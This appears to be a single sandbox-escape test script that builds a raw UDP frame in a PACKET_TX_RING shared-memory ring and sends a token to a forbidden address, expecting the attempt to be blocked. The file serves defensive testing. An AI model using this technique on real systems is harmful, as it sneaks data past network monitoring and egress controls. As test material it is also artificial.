#!/usr/bin/python3
# id: b07_packet_tx_ring
# title: a frame in the transmit ring of a packet socket (PACKET_TX_RING)
# needs: root
# expect: block
# why: the bytes are in memory that the workload shares with the kernel, and the call that sends has none
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
import mmap, struct
def f():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0); s.bind(('v0', 0)); s.setsockopt(263, 13, struct.pack('IIII', 4096, 1, 2048, 2)); m = mmap.mmap(s.fileno(), 4096)
    frame = b'\xff' * 6 + b'\x02\0\0\0\0\1\x08\0' + ip4(myip(), FORB, 17, udp4(myip(), FORB, 5555, P_UDP, TOK.encode()))
    m[32:32 + len(frame)] = frame; m[8:12] = struct.pack('I', len(frame)); m[0:8] = struct.pack('Q', 1); s.send(b''); time.sleep(.4)
attempt(f, chan=('udp', 'pkt'))
